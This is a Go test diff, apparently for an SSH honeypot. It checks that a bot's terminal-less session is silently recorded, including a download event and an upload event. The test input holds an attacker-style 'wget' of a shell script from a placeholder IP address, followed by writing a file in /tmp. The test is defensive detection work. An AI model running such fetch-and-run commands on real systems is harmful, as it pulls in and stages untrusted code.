@@ -113,6 +113,23 @@ func TestSSH_InteractiveShell(t *testing.T) {
 	assert.Equal(t, "interactive", traptest.Fields(b.Wait("command"))["mode"])
 }
 
+// Bots send their commands without a terminal: nothing is echoed or prompted.
+func TestSSH_ShellWithoutATerminal(t *testing.T) {
+	t.Parallel()
+	b := bench(t, "")
+	s, err := login(t, b).NewSession()
+	require.NoError(t, err)
+	s.Stdin = strings.NewReader("cd /tmp\nwget http://198.51.100.7/x.sh\ncat > y\nmalware\n")
+	var out bytes.Buffer
+	s.Stdout = &out
+	require.NoError(t, s.Shell())
+	require.NoError(t, s.Wait())
+	assert.Empty(t, out.String())
+	assert.Equal(t, "http://198.51.100.7/x.sh", traptest.Fields(b.Wait("file_download"))["url"])
+	assert.Equal(t, "8", traptest.Fields(b.Wait("file_upload"))["size"])
+	b.WaitN("command", 3)
+}
+
 func TestSSH_RefusesAndRecords(t *testing.T) {
 	t.Parallel()
 	b := bench(t, "rocky9")
